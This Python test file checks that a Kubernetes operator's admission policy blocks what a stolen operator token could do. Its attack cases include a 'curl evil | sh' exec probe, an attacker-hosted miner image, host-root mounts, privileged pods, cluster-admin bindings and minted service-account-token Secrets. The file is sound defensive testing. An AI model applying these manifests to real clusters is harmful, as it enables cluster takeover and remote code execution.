"""What a stolen operator token can still do: the chart's default install (cluster-wide
RBAC) and its child-integrity ValidatingAdmissionPolicy against the real API server,
with a token of the operator's own ServiceAccount.

The ClusterRole must let the operator create and patch Deployments, ServiceAccounts,
Roles and RoleBindings in every namespace; RBAC cannot say which ones. Without the
policy, that token runs any image as any ServiceAccount, privileged, anywhere. With it,
the operator's own work (its real children, applied by its own code, and the whole
operator process) still succeeds, and each attack below is refused.
"""

from __future__ import annotations

import copy
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from devcluster.cluster import Cluster
from devcluster.helm import template
from devcluster.operator_process import operator_process
from devcluster.rest import STRATEGIC_PATCH, ApiError, KubeClient
from devcluster.waiting import wait_for
from hotswap_contract.wire import Peers
from hotswap_operator import resources, rollout
from hotswap_operator.config import runtime_defaults
from hotswap_operator.context import SyncContext
from hotswap_operator.kube import Kube
from hotswap_operator.spec import parse_spec

REPO = Path(__file__).resolve().parents[3]
VAP_API = "admissionregistration.k8s.io/v1/ValidatingAdmissionPolicy"
INSTALLED = {
    "ServiceAccount",
    "ClusterRole",
    "ClusterRoleBinding",
    "Role",
    "RoleBinding",
    "ValidatingAdmissionPolicy",
    "ValidatingAdmissionPolicyBinding",
}
CLUSTER_SCOPED = [
    (
        "ValidatingAdmissionPolicyBinding",
        "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings",
    ),
    (
        "ValidatingAdmissionPolicy",
        "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies",
    ),
    ("ClusterRoleBinding", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"),
    ("ClusterRole", "/apis/rbac.authorization.k8s.io/v1/clusterroles"),
]
RBAC = "/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}"
APPS = "/apis/apps/v1/namespaces/{ns}/deployments"
MD = "/apis/hotswap.dev/v1alpha1/namespaces/{ns}/modeldeployments"
SPEC = {
    "model": {"architecture": "torchvision/resnet18", "inputShape": [3, 8, 8]},
    "checkpoint": {"uri": "file:///models/v1.safetensors", "sha256": "1" * 64},
    "runtime": {"device": "cpu", "podDisruptionBudget": {"enabled": True}},
}


@dataclass
class Install:
    """The chart installed cluster-wide in `namespace`, and who acts as its operator."""

    namespace: str
    docs: list[dict[str, Any]]
    token: str
    operator: KubeClient
    env: dict[str, str]  # the operator container's plain env values, as the chart sets them


def chart_env(docs: list[dict[str, Any]]) -> dict[str, str]:
    (deployment,) = [d for d in docs if d["kind"] == "Deployment"]
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    return {e["name"]: e["value"] for e in container["env"] if "value" in e}


@pytest.fixture(scope="module")
def installed(cluster: Cluster, helm_bin: Path) -> Iterator[Install]:
    cluster.apply_crd(REPO / "crds")
    admin = cluster.rest()
    ns = f"hotswap-system-{uuid.uuid4().hex[:6]}"
    admin.post("/api/v1/namespaces", {"metadata": {"name": ns}})
    docs = template(helm_bin, "--api-versions", VAP_API, namespace=ns)
    chosen = [d for d in docs if d["kind"] in INSTALLED]
    try:
        cluster.kubectl("apply", "-n", ns, "-f", "-", input=yaml.safe_dump_all(chosen))
        (account,) = [d for d in docs if d["kind"] == "ServiceAccount"]
        name = account["metadata"]["name"]
        wait_for(
            lambda: admin.get(f"/api/v1/namespaces/{ns}/serviceaccounts/{name}"),
            what=f"ServiceAccount {ns}/{name}",
        )
        request = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
        made = admin.post(f"/api/v1/namespaces/{ns}/serviceaccounts/{name}/token", request)
        token = str(made["status"]["token"])
        operator = KubeClient(cluster.token_kubeconfig(token, f"operator-{ns}", ns))
        yield Install(ns, docs, token, operator, chart_env(docs))
    finally:
        for kind, path in CLUSTER_SCOPED:
            for doc in (d for d in chosen if d["kind"] == kind):
                try:
                    admin.delete(f"{path}/{doc['metadata']['name']}")
                except ApiError as err:
                    if err.status != 404:
                        raise
        admin.delete(f"/api/v1/namespaces/{ns}")


@dataclass
class Team:
    """A team namespace with ModelDeployment m, the children the operator builds for it,
    and objects of others: a Deployment, a Role and a PodDisruptionBudget."""

    namespace: str
    owner: resources.Owner
    children: list[dict[str, Any]]
    kube: Kube  # the operator's own client code, with the operator's token


def policy_rendered(install: Install) -> bool:
    return any(
        d["kind"] == "ValidatingAdmissionPolicy" and "operator-writes" in d["metadata"]["name"]
        for d in install.docs
    )


def foreign_deployment(name: str, account: str = "default") -> dict[str, Any]:
    labels = {"app": name}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "labels": labels},
        "spec": {
            "replicas": 0,
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": {
                    "serviceAccountName": account,
                    "containers": [{"name": "app", "image": "registry.example/app:1"}],
                },
            },
        },
    }


def operator_kube(cluster: Cluster, token: str) -> Kube:
    from kubernetes import client

    admin = cluster.rest()
    cfg = client.Configuration()
    cfg.host = admin.server
    cfg.ssl_ca_cert = str(admin.ca_path)
    cfg.api_key = {"authorization": f"Bearer {token}"}
    return Kube(client.ApiClient(cfg))


@pytest.fixture
def team(cluster: Cluster, installed: Install, namespace: str) -> Team:
    admin = cluster.rest()
    md = admin.post(
        MD.format(ns=namespace),
        {
            "apiVersion": "hotswap.dev/v1alpha1",
            "kind": "ModelDeployment",
            "metadata": {"name": "m"},
            "spec": SPEC,
        },
    )
    owner = resources.Owner("m", namespace, md["metadata"]["uid"])
    spec = parse_spec(SPEC)
    body = {"metadata": {**md["metadata"], "namespace": namespace}}
    ctx = SyncContext.build(
        body, None, (), runtime_defaults(installed.env), "2026-01-01T00:00:00Z", None
    )
    plan = rollout.plan(ctx, spec)
    children = resources.children(owner, spec, runtime_defaults(installed.env), plan.config)
    admin.post(APPS.format(ns=namespace), foreign_deployment("web"))
    admin.post(
        f"{RBAC.format(ns=namespace)}/roles",
        {
            "metadata": {"name": "deployer"},
            "rules": [
                {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["create", "patch"]}
            ],
        },
    )
    admin.post(
        f"/apis/policy/v1/namespaces/{namespace}/poddisruptionbudgets",
        {
            "metadata": {"name": "web"},
            "spec": {"maxUnavailable": 0, "selector": {"matchLabels": {"app": "web"}}},
        },
    )
    kube = operator_kube(cluster, installed.token)
    if policy_rendered(installed):
        wait_for(
            lambda: in_force(installed.operator, namespace),
            timeout=30,
            what="the operator-writes policy in force",
        )
    return Team(namespace, owner, children, kube)


def in_force(operator: KubeClient, namespace: str) -> bool:
    """Whether a Deployment running as another ServiceAccount is refused (a dry run:
    admission runs, nothing is stored)."""
    try:
        operator.request(
            "POST", APPS.format(ns=namespace), foreign_deployment("probe"), {"dryRun": "All"}
        )
    except ApiError as err:
        return err.status == 403 and "operator-writes" in err.body
    return False


def refused(call: Callable[[], Any], *words: str) -> ApiError:
    with pytest.raises(ApiError) as caught:
        call()
    error = caught.value
    assert error.status == 403, error
    for word in words:
        assert word in str(error), error
    return error


def child(team: Team, kind: str) -> dict[str, Any]:
    (found,) = [c for c in team.children if c["kind"] == kind]
    return copy.deepcopy(found)


def apply_path(manifest: dict[str, Any]) -> str:
    meta = manifest["metadata"]
    group = manifest["apiVersion"]
    plural = f"{manifest['kind'].lower()}s"
    prefix = "/api/v1" if group == "v1" else f"/apis/{group}"
    return f"{prefix}/namespaces/{meta['namespace']}/{plural}/{meta['name']}"


def apply_as(client: KubeClient, manifest: dict[str, Any]) -> dict[str, Any]:
    """Server-side apply, as the operator writes its children."""
    return client.request(
        "PATCH",
        apply_path(manifest),
        manifest,
        {"fieldManager": "hotswap-operator", "force": "true"},
        "application/apply-patch+yaml",
    )


def pod_spec(deployment: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = deployment["spec"]["template"]["spec"]
    return spec


def test_the_operators_own_children_are_written_updated_and_retired(team):
    """Its own code (Kube.claim, apply, retire) with its token: create, change, retire."""
    applied = [m for m in team.children if m["kind"] != "Secret"]
    assert team.kube.claim(applied, team.owner) == [None] * len(applied)
    with pytest.raises(ValueError, match="never read"):  # it may not read Secrets
        team.kube.claim(team.children, team.owner)
    for manifest in team.children:
        if manifest["kind"] == "Secret":  # the peer token: created, never applied
            team.kube.create(resources.peer_secret(team.owner, "t" * 43))
        else:
            team.kube.apply(manifest)
    listing = Peers(name="m", generation=1, originConcurrency=2)
    team.kube.apply(resources.peers_config_map(team.owner, listing))  # peers.json
    deployment = child(team, "Deployment")
    deployment["spec"]["replicas"] = 3
    uid = team.kube.claim([deployment], team.owner)[0]
    assert team.kube.apply(deployment, uid)["spec"]["replicas"] == 3
    assert team.kube.retire(child(team, "PodDisruptionBudget"), team.owner)


@pytest.mark.parametrize(
    "attack",
    [
        "another-service-account",
        "privileged",
        "any-image",
        "host-path",
        "host-network",
        "command",
        "exec-probe",
        "code-through-env",
        "wider-policy",
        "no-owner",
        "apparmor-unconfined",
        "replicas",
    ],
)
def test_a_deployment_outside_the_runtime_shape_is_refused(team, installed, attack):
    deployment = child(team, "Deployment")
    pod = pod_spec(deployment)
    (container,) = pod["containers"]
    words = {"another-service-account": "runtime ServiceAccount m-runtime"}.get(attack, "")
    if attack == "another-service-account":
        pod["serviceAccountName"] = "default"
    elif attack == "privileged":
        container["securityContext"] = {"privileged": True, "allowPrivilegeEscalation": True}
        words = "unprivileged"
    elif attack == "any-image":
        container["image"] = "attacker.example/miner:latest"
        words = "runtime image the chart allows"
    elif attack == "host-path":
        pod["volumes"].append({"name": "root", "hostPath": {"path": "/"}})
        container["volumeMounts"].append({"name": "root", "mountPath": "/host"})
        words = "no host paths"
    elif attack == "host-network":
        pod["hostNetwork"] = True
        words = "no host network"
    elif attack == "command":
        container["command"] = ["python", "-c", "import os; os.system('id')"]
        words = "no command"
    elif attack == "exec-probe":
        container["livenessProbe"] = {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}
        words = "exec probes"
    elif attack == "code-through-env":
        container["env"].append({"name": "PYTHONPATH", "value": "/etc/hotswap/model"})
        words = "runtime environment"
    elif attack == "wider-policy":
        for entry in container["env"]:
            if entry["name"] == "HOTSWAP_ALLOWED_ARCHITECTURES":
                entry["value"] = "torchvision,python/os:system"
        words = "no wider than the chart policy values"
    elif attack == "apparmor-unconfined":
        container["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}
        words = "AppArmor confined"
    elif attack == "replicas":
        deployment["spec"]["replicas"] = 100000
        words = "at most 10000"
    elif attack == "no-owner":
        del deployment["metadata"]["ownerReferences"]
        words = "only children of a ModelDeployment"
    refused(lambda: apply_as(installed.operator, deployment), words)
    # nor by changing the operator's own Deployment into one
    apply_as(installed.operator, child(team, "Deployment"))
    refused(lambda: apply_as(installed.operator, deployment), words)


def test_objects_it_did_not_create_are_out_of_its_reach(team, installed):
    """Another team's Deployment, ServiceAccount and PodDisruptionBudget: no patch, no
    delete (the ClusterRole allows both on every one of them)."""
    ns, operator = team.namespace, installed.operator
    words = "only objects it created"
    refused(
        lambda: operator.patch(
            f"{APPS.format(ns=ns)}/web",
            {"spec": {"template": {"spec": {"containers": [{"name": "app", "image": "evil:1"}]}}}},
            STRATEGIC_PATCH,
        ),
        words,
    )
    refused(
        lambda: operator.patch(
            f"/api/v1/namespaces/{ns}/serviceaccounts/default",
            {"metadata": {"annotations": {"iam.gke.io/gcp-service-account": "admin@p.iam"}}},
        ),
        words,
    )
    refused(
        lambda: operator.delete(f"/apis/policy/v1/namespaces/{ns}/poddisruptionbudgets/web"),
        words,
    )


def test_it_binds_only_the_runtime_role_to_the_runtime_account(team, installed):
    operator = installed.operator
    binding = child(team, "RoleBinding")
    for manifest in team.children:
        if manifest["kind"] in ("ServiceAccount", "Role"):
            team.kube.apply(manifest)
    admin_binding = copy.deepcopy(binding)
    admin_binding["roleRef"] = {
        "apiGroup": "rbac.authorization.k8s.io",
        "kind": "ClusterRole",
        "name": "cluster-admin",
    }
    refused(lambda: apply_as(operator, admin_binding))  # RBAC: it does not hold them
    deployer = copy.deepcopy(binding)  # a Role whose permissions it holds
    deployer["roleRef"]["name"] = "deployer"
    refused(lambda: apply_as(operator, deployer), "binds only Role m-runtime")
    to_default = copy.deepcopy(binding)
    to_default["subjects"][0]["name"] = "default"
    refused(lambda: apply_as(operator, to_default), "to ServiceAccount m-runtime")
    apply_as(operator, binding)


def test_it_creates_only_the_runtime_role(team, installed):
    operator = installed.operator
    role = child(team, "Role")
    secrets = copy.deepcopy(role)
    secrets["rules"].append({"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]})
    refused(lambda: apply_as(operator, secrets))  # RBAC: escalation
    wider = copy.deepcopy(role)  # permissions it holds, but not the runtime's
    wider["rules"].append(
        {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["create", "patch"]}
    )
    refused(lambda: apply_as(operator, wider), "grants only what runtime pods need")
    every_config = copy.deepcopy(role)
    del every_config["rules"][0]["resourceNames"]
    refused(lambda: apply_as(operator, every_config), "grants only what runtime pods need")
    apply_as(operator, role)


def test_it_creates_only_the_peer_token_secret(team, installed):
    """A service-account-token Secret would be filled by the token controller with a
    token of any ServiceAccount of the namespace, which the operator could then read."""
    operator, path = installed.operator, f"/api/v1/namespaces/{team.namespace}/secrets"
    secret = resources.peer_secret(team.owner, "t" * 43)
    minted = copy.deepcopy(secret)
    minted["type"] = "kubernetes.io/service-account-token"
    minted["metadata"]["annotations"] = {"kubernetes.io/service-account.name": "default"}
    refused(lambda: operator.post(path, minted), "only Opaque Secrets")
    named = copy.deepcopy(secret)
    named["metadata"]["name"] = "m-runtime"
    refused(lambda: operator.post(path, named), "only children of a ModelDeployment")
    created = team.kube.create(secret)
    assert created["metadata"]["name"] == f"m-peer-{team.owner.uid}"
    name = created["metadata"]["name"]
    refused(  # RBAC: created, never changed nor read back
        lambda: operator.patch(f"{path}/{name}", {"stringData": {"token": "mine"}})
    )
    refused(lambda: operator.get(f"{path}/{name}"))
    refused(lambda: operator.get(path))


def test_services_and_budgets_cover_only_the_runtime_pods(team, installed):
    operator = installed.operator
    exposed = child(team, "Service")
    exposed["spec"]["type"] = "LoadBalancer"
    refused(lambda: apply_as(operator, exposed), "only ClusterIP Services")
    hijack = child(team, "Service")
    hijack["spec"]["selector"] = {"app": "web"}
    hijack["spec"]["externalIPs"] = ["203.0.113.7"]
    refused(lambda: apply_as(operator, hijack), "over the runtime pods")
    budget = child(team, "PodDisruptionBudget")
    budget["spec"]["selector"] = {"matchLabels": {"app": "web"}}
    refused(lambda: apply_as(operator, budget), "only the runtime pods")


def test_nothing_in_system_namespaces(team, installed):
    account = child(team, "ServiceAccount")
    account["metadata"]["namespace"] = "kube-system"
    refused(
        lambda: apply_as(installed.operator, account), "writes nothing in namespace kube-system"
    )


def test_the_operator_process_converges_with_the_charts_account(
    cluster, installed, namespace, tmp_path
):
    """The whole operator, authenticated as the chart's ServiceAccount (its RBAC and the
    policy in force): a ModelDeployment gets its children and a status."""
    admin = cluster.rest()
    kubeconfig = cluster.token_kubeconfig(installed.token, f"process-{namespace}", namespace)
    env = {
        "KUBECONFIG": str(kubeconfig),
        "POD_NAMESPACE": installed.namespace,
        "HOTSWAP_LEADER_LEASE": installed.env["HOTSWAP_LEADER_LEASE"],
        "HOTSWAP_RUNTIME_DEFAULTS": installed.env["HOTSWAP_RUNTIME_DEFAULTS"],
    }
    with operator_process(cluster, namespace, tmp_path / "operator.log", **env):
        body = {
            "apiVersion": "hotswap.dev/v1alpha1",
            "kind": "ModelDeployment",
            "metadata": {"name": "m"},
            "spec": SPEC,
        }
        created = admin.post(MD.format(ns=namespace), body)
        path = f"{MD.format(ns=namespace)}/m"

        def observed() -> dict[str, Any] | None:
            status = admin.get(path).get("status") or {}
            done = status.get("observedGeneration") == created["metadata"]["generation"]
            return status if done and status.get("revision") == 1 else None

        status = wait_for(observed, timeout=60, what="ModelDeployment m observed")
        assert not status.get("error"), status
        deployment = wait_for(  # the last child the sync applies
            lambda: admin.get(f"{APPS.format(ns=namespace)}/m"),
            timeout=60,
            what="Deployment m",
        )
        assert pod_spec(deployment)["serviceAccountName"] == "m-runtime"
        pdb = admin.get(f"/apis/policy/v1/namespaces/{namespace}/poddisruptionbudgets/m")
        assert pdb["metadata"]["labels"]["app.kubernetes.io/managed-by"] == "hotswap-operator"
